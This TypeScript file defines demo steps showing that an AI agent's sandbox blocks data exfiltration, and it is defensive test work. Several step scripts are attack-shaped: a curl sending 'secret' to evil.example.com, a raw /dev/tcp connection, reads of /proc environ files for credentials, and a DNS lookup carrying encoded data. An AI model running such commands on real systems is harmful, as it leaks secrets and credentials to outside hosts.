/** What the demo shows: a command in the bottle each, what it should come to, and why. */

import type { ExecResult } from "../../lib/bottle.ts";
import { gitSteps } from "./git_steps.ts";
import { INSIDE_HOST, UPSTREAM_HOST } from "./upstream.ts";

/** What the steps are about. */
export interface DemoFacts {
  /** SHA-256, hex, of the header that the upstream should see. */
  readonly credentialSha256: string;
  /** The credentials, to look for them where they must not be. */
  readonly tokens: readonly string[];
  /** The upstream's own address: it listens, so only the bottle can be why nothing gets there. */
  readonly address: string;
}

/** One step. */
export interface DemoStep {
  readonly title: string;
  /** Read by bash in the guest, as the agent's user. */
  readonly script: string;
  /** Two lines at most. */
  readonly explanation: string;
  /** Undefined: it went as told. Else what was wrong. */
  readonly judge: (result: ExecResult) => string | undefined;
}

/** The steps, in order. */
export function demoSteps(facts: DemoFacts): readonly DemoStep[] {
  return [
    {
      title: "An allowed call gets its credential on the way",
      script:
        `echo "API_TOKEN=$API_TOKEN"\ncurl -sS -H "Authorization: Bearer $API_TOKEN" https://${UPSTREAM_HOST}/whoami`,
      explanation:
        "The agent sent a placeholder, all it has. The upstream saw the real token: egress put it on, outside of the agent's reach.",
      judge: ({ stdout }) =>
        stdout.includes(facts.credentialSha256)
          ? undefined
          : "the upstream did not see the real credential",
    },
    {
      title: "The real tokens are nowhere in the bottle",
      script: "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'",
      explanation: "Neither in the agent's environment nor in that of any process it can see.",
      judge: ({ stdout }) =>
        facts.tokens.some((token) => stdout.includes(token))
          ? "a token is in the guest"
          : stdout.includes("API_TOKEN=")
          ? undefined
          : "the environment could not be read",
    },
    {
      title: "A host that no route names is blocked",
      script: "curl -sS -i https://evil.example.com/?data=secret",
      explanation: "No route names it. The refusal says why, so that the agent can say so too.",
      judge: refusedAs("host-not-allowed"),
    },
    {
      title: "A direct connection fails",
      script:
        `timeout 5 bash -c 'exec 3<>/dev/tcp/${facts.address}/443' && echo connected || echo "not connected"`,
      explanation:
        `${facts.address} listens: it answered the first call. But the bottle's network leads to its sidecar and nowhere else.`,
      judge: ({ stdout }) =>
        /^not connected$/m.test(stdout) ? undefined : "a direct connection got out",
    },
    {
      title: "A name that leads to a private address is refused",
      script: `curl -sS -i https://${INSIDE_HOST}/`,
      explanation:
        "A route names this host, and its address is private: so could your router's or a cloud's metadata service be.",
      judge: refusedAs("private-address"),
    },
    {
      title: "A DNS look-up goes nowhere",
      script: "time -p getent hosts c2VjcmV0.evil.example.com || echo 'no such name'",
      explanation:
        "No resolver is asked, so that names can't carry data out; the answer comes at once, and the question is in the audit.",
      judge: ({ stdout }) => stdout.includes("no such name") ? undefined : "the name was resolved",
    },
    ...gitSteps,
  ];
}

function refusedAs(reason: string): DemoStep["judge"] {
  return ({ stdout }) =>
    stdout.toLowerCase().includes(`x-bot-bottle-block: ${reason}`)
      ? undefined
      : `it was not refused as ${reason}`;
}
